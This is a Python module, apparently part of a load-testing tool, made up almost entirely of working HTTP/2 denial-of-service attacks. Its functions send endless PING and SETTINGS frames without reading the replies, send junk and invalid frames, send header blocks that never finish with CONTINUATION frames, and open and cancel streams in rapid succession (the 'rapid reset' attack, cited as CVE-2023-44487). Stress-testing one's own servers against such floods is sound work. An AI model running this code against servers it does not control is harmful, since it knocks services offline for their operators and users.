"""Attacks that send as fast as the server takes it: frames that cost the sender nothing."""

import contextlib
import selectors
import socket
import struct
import threading
from collections.abc import Callable
from dataclasses import replace

from loadtest.attack.field import Counts, Field, in_threads
from loadtest.attack.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW,
    ONE_IMAGE,
    PING,
    PRIORITY,
    READ_BYTES,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    literal,
    opening,
    request_headers,
    reset,
    setting,
)

CONNECTIONS = 4
BLOCK = 200  # frames sent at once
STREAMS = 10_000  # of a connection, before the next


def pings(field: Field) -> Counts:
    """Sends pings without end; half of the connections never read the answers."""
    block = frame(PING, 0, 0, b"12345678") * BLOCK
    return _repeated(field, lambda _rank: (b"", block), "pings", odd_ones_read=False)


def settings(field: Field) -> Counts:
    """Sends settings without end, which must be acknowledged; half of the connections never read."""
    block = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65535)) * BLOCK
    return _repeated(field, lambda _rank: (b"", block), "settings", odd_ones_read=False)


def frames(field: Field) -> Counts:
    """Sends frames that mean nothing or little, another kind on each connection."""
    kinds = [
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"),
        frame(0x77, 0, 0, b"x" * 100),  # no kind that there is
        frame(DATA, 0, 1),  # empty
        frame(GOAWAY, 0, 0, bytes(8)),
        frame(RST_STREAM, 0, 9999, bytes(4)),  # a stream that never was
        frame(SETTINGS, ACK),
    ]
    return _repeated(field, lambda rank: (opening(1), kinds[rank] * BLOCK), "frames", connections=len(kinds))


def continuations(field: Field) -> Counts:
    """Sends header blocks that never end: full continuations on half of the connections, empty ones on the others."""
    full = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BLOCK
    empty = frame(CONTINUATION, 0, 1) * BLOCK
    first = frame(HEADERS, 0, 1, request_headers())
    return _repeated(field, lambda rank: (first, empty if rank % 2 else full), "frames")


def rapid_resets(field: Field) -> Counts:
    """Opens streams and cancels them at once (CVE-2023-44487)."""
    return _streams(field, _stream_blocks(lambda stream: opening(stream) + reset(stream)))


def resets_after_data(field: Field) -> Counts:
    """Sends whole requests that are cancelled at once."""

    def request(stream: int) -> bytes:
        return opening(stream) + frame(DATA, END_STREAM, stream, ONE_IMAGE) + reset(stream)

    return _streams(field, _stream_blocks(request, STREAMS // 20))


def unknown_paths(field: Field) -> Counts:
    """Calls methods that the server does not have."""
    block = request_headers(b"/no.such.Service/Method")
    return _streams(field, _stream_blocks(lambda stream: opening(stream, block, END_STREAM | END_HEADERS)))


def churn(field: Field) -> Counts:
    """Makes connections and drops them at once."""

    def work(_rank: int, counts: Counts) -> None:
        Connection(field.address).close()
        counts["connections"] += 1

    return in_threads(CONNECTIONS, field, work, "connections")


def control(field: Field) -> Counts:
    """Floods a socket of this process, which no server sees: what it costs others is the machine's fault."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        sink = threading.Thread(target=_swallow, args=(listener, field))
        sink.start()
        counts = pings(replace(field, address=listener.getsockname()))
        sink.join()
    return counts


def _swallow(listener: socket.socket, field: Field) -> None:
    """Reads all that comes on all connections to it, until nothing does."""
    with selectors.DefaultSelector() as selector, contextlib.ExitStack() as stack:
        selector.register(listener, selectors.EVENT_READ)
        while (ready := selector.select(0.3)) or field.goes_on(field.size):
            for key, _ in ready:
                if key.fileobj is listener:
                    selector.register(stack.enter_context(listener.accept()[0]), selectors.EVENT_READ)
                elif isinstance(key.fileobj, socket.socket) and not key.fileobj.recv(READ_BYTES):
                    selector.unregister(key.fileobj)


def _repeated(
    field: Field,
    blocks_of: Callable[[int], tuple[bytes, bytes]],
    unit: str,
    *,
    connections: int = CONNECTIONS,
    odd_ones_read: bool = True,
) -> Counts:
    """Sends each connection's first block once and its second for ever; a connection that ends is replaced."""

    def work(rank: int, counts: Counts) -> None:
        first, block = blocks_of(rank)
        with Connection(field.address) as connection:
            counts["connections"] += 1
            connection.send(first)
            while field.goes_on(connections * counts[unit]) and connection.send(block):
                counts[unit] += BLOCK
                if (odd_ones_read or rank % 2 == 0) and not connection.skip():
                    return

    return in_threads(connections, field, work, unit)


def _stream_blocks(make: Callable[[int], bytes], streams: int = STREAMS) -> list[bytes]:
    """Makes what one connection sends, in blocks: each of its streams has a number of its own."""
    numbers = range(1, 2 * streams, 2)
    return [b"".join(map(make, numbers[start : start + BLOCK])) for start in range(0, streams, BLOCK)]


def _streams(field: Field, blocks: list[bytes], unit: str = "streams") -> Counts:
    """Sends the blocks on one connection after the other."""

    def work(_rank: int, counts: Counts) -> None:
        with Connection(field.address) as connection:
            counts["connections"] += 1
            for block in blocks:
                if not (field.goes_on(CONNECTIONS * counts[unit]) and connection.send(block) and connection.skip()):
                    return
                counts[unit] += BLOCK

    return in_threads(CONNECTIONS, field, work, unit)
